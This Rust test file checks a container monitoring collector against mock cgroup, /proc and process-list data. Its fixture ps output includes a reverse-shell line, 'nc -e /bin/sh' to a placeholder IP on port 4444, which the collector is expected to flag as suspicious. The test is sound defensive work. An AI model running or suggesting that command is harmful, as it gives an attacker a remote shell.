//! Integration tests for snapshot collection
//!
//! These tests use a mock cgroup and proc filesystem plus an in-memory
//! container runtime, so no real container is needed.

#[cfg(test)]
mod mock_fs_tests {
    use crate::collector::{CgroupReader, Collector, CollectorConfig};
    use crate::control::fake::FakeContainer;
    use crate::tables::ThreatTables;
    use std::path::{Path, PathBuf};
    use std::sync::Arc;
    use tempfile::TempDir;
    use tokio::fs;

    const PS_OUTPUT: &str = "USER PID PPID COMMAND\n\
root 1 0 /sbin/init\n\
code 77 1 nc -e /bin/sh 203.0.113.9 4444\n\
code 78 1 printenv\n";

    const DF_OUTPUT: &str = "Filesystem 1M-blocks Used Available Use% Mounted on\n\
tmpfs 1000M 850M 150M 85% /tmp\n";

    // 10.47.62.50:40000 -> 11.113.0.9:4444 ESTABLISHED, plus one foreign local address
    const NET_TCP: &str = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n\
   0: 323E2F0A:9C40 0900710B:115C 01 00000000:00000000 00:00000000 00000000  1000        0 1 1 0 20 4 30 10 -1\n\
   1: 0100000A:9C41 0900710B:115C 01 00000000:00000000 00:00000000 00000000  1000        0 2 1 0 20 4 30 10 -1\n";

    async fn write_cgroup_files(dir: &Path, io_stat: &str) {
        fs::create_dir_all(dir).await.unwrap();
        fs::write(
            dir.join("cpu.stat"),
            "usage_usec 5000000\nuser_usec 3000000\nsystem_usec 2000000\n",
        )
        .await
        .unwrap();
        fs::write(dir.join("memory.current"), "104857600\n").await.unwrap();
        fs::write(dir.join("memory.max"), "max\n").await.unwrap();
        fs::write(dir.join("io.stat"), io_stat).await.unwrap();
    }

    /// Mock host with the container cgroup under the incus.monitor template
    async fn create_mock_host(temp_dir: &TempDir) -> (PathBuf, PathBuf) {
        let cgroup_root = temp_dir.path().join("cgroup");
        let proc_root = temp_dir.path().join("proc");

        write_cgroup_files(
            &cgroup_root.join("incus.monitor").join("dev"),
            "8:0 rbytes=10485760 wbytes=5242880 rios=1 wios=1\n",
        )
        .await;

        fs::create_dir_all(proc_root.join("net")).await.unwrap();
        fs::write(proc_root.join("net/tcp"), NET_TCP).await.unwrap();

        (cgroup_root, proc_root)
    }

    fn fake_container() -> Arc<FakeContainer> {
        let container = FakeContainer::default();
        container.respond_to("ps", PS_OUTPUT);
        container.respond_to("df", DF_OUTPUT);
        Arc::new(container)
    }

    fn collector(cgroup_root: PathBuf, proc_root: PathBuf, control: Arc<FakeContainer>) -> Collector {
        let mut config = CollectorConfig::new("dev");
        config.container_ip = "10.47.62.50".parse().ok();
        config.workspace_path = Some("/workspace".to_string());
        config.cgroup_root = cgroup_root;
        config.proc_root = proc_root;
        Collector::new(config, control, Arc::new(ThreatTables::default()))
    }

    #[tokio::test]
    async fn test_collect_full_snapshot() {
        let temp_dir = TempDir::new().unwrap();
        let (cgroup_root, proc_root) = create_mock_host(&temp_dir).await;
        let collector = collector(cgroup_root, proc_root, fake_container());

        let snapshot = collector.collect().await;

        assert!(snapshot.errors.is_empty(), "errors: {:?}", snapshot.errors);
        assert_eq!(snapshot.container_name, "dev");

        // only the connection bound to the container IP survives the filter
        assert!(snapshot.network.available);
        assert_eq!(snapshot.network.active_connections, 1);
        assert_eq!(snapshot.network.suspicious_count, 1);

        assert_eq!(snapshot.processes.total_count, 3);
        assert!(snapshot.processes.processes[2].env_access);

        assert!(snapshot.resources.available);
        assert_eq!(snapshot.resources.cpu_time_seconds, 5.0);
        assert_eq!(snapshot.resources.memory_mb, 100.0);
        assert_eq!(snapshot.resources.memory_limit_mb, None);
        assert_eq!(snapshot.resources.io_read_mb, 10.0);
        assert_eq!(snapshot.resources.io_write_mb, 5.0);

        // first poll is a baseline
        assert!(snapshot.filesystem.available);
        assert_eq!(snapshot.filesystem.total_read_mb, 0.0);
        assert_eq!(snapshot.filesystem.tmp_used_percent, 85.0);
        assert_eq!(snapshot.filesystem.workspace_path.as_deref(), Some("/workspace"));
    }

    #[tokio::test]
    async fn test_filesystem_delta_across_polls() {
        let temp_dir = TempDir::new().unwrap();
        let (cgroup_root, proc_root) = create_mock_host(&temp_dir).await;
        let leaf = cgroup_root.join("incus.monitor").join("dev");
        let collector = collector(cgroup_root, proc_root, fake_container());

        collector.collect().await;
        fs::write(
            leaf.join("io.stat"),
            "8:0 rbytes=31457280 wbytes=5242880 rios=3 wios=1\n",
        )
        .await
        .unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;

        let snapshot = collector.collect().await;
        assert_eq!(snapshot.filesystem.total_read_mb, 20.0);
        assert!(snapshot.filesystem.read_rate_mb_per_sec > 0.0);
        assert_eq!(snapshot.filesystem.total_write_mb, 0.0);
    }

    #[tokio::test]
    async fn test_failed_domains_are_reported_not_fatal() {
        let temp_dir = TempDir::new().unwrap();
        let (cgroup_root, _) = create_mock_host(&temp_dir).await;
        let missing_proc = temp_dir.path().join("no-proc");

        // no canned ps/df output: exec fails
        let control = Arc::new(FakeContainer::default());
        let collector = collector(cgroup_root, missing_proc, control);

        let snapshot = collector.collect().await;

        assert!(!snapshot.network.available);
        assert!(!snapshot.processes.available);
        assert!(snapshot.resources.available);
        assert!(snapshot.filesystem.available);
        assert!(snapshot.errors.iter().any(|e| e.starts_with("network: ")));
        assert!(snapshot.errors.iter().any(|e| e.starts_with("process: ")));
        assert_eq!(snapshot.errors.len(), 2);
    }

    #[tokio::test]
    async fn test_cgroup_located_via_init_pid() {
        let temp_dir = TempDir::new().unwrap();
        let cgroup_root = temp_dir.path().join("cgroup");
        let proc_root = temp_dir.path().join("proc");

        let leaf = cgroup_root.join("lxc.payload.dev").join("init.scope");
        write_cgroup_files(&leaf, "").await;
        // I/O is only accounted on the parent
        fs::write(
            cgroup_root.join("lxc.payload.dev").join("io.stat"),
            "8:0 rbytes=2097152 wbytes=1048576\n",
        )
        .await
        .unwrap();

        fs::create_dir_all(proc_root.join("4242")).await.unwrap();
        fs::write(
            proc_root.join("4242/cgroup"),
            "0::/lxc.payload.dev/init.scope\n",
        )
        .await
        .unwrap();

        let container = FakeContainer {
            pid: Some(4242),
            ..Default::default()
        };

        let reader = CgroupReader::with_proc_path(&cgroup_root, &proc_root);
        let located = reader.locate("dev", &container).await.unwrap();
        assert_eq!(located, leaf);

        let stats = reader.collect("dev", &container).await.unwrap();
        assert_eq!(stats.io_read_mb, 2.0);
        assert_eq!(stats.io_write_mb, 1.0);
        assert_eq!(stats.user_cpu_seconds, 3.0);
    }

    #[tokio::test]
    async fn test_cgroup_not_found_without_pid() {
        let temp_dir = TempDir::new().unwrap();
        let reader = CgroupReader::with_proc_path(temp_dir.path(), temp_dir.path());
        let container = FakeContainer::default();
        assert!(reader.locate("dev", &container).await.is_err());
    }

    #[tokio::test]
    async fn test_get_cgroup_path_for_pid() {
        let temp_dir = TempDir::new().unwrap();
        let proc_path = temp_dir.path().to_path_buf();

        let pid_dir = proc_path.join("12345");
        fs::create_dir_all(&pid_dir).await.unwrap();
        fs::write(
            pid_dir.join("cgroup"),
            "0::/lxc.payload.dev/init.scope\n",
        )
        .await
        .unwrap();

        let reader = CgroupReader::with_proc_path("/sys/fs/cgroup", &proc_path);
        let path = reader.get_cgroup_path_for_pid(12345).await.unwrap();
        assert_eq!(path, "/lxc.payload.dev/init.scope");
    }
}
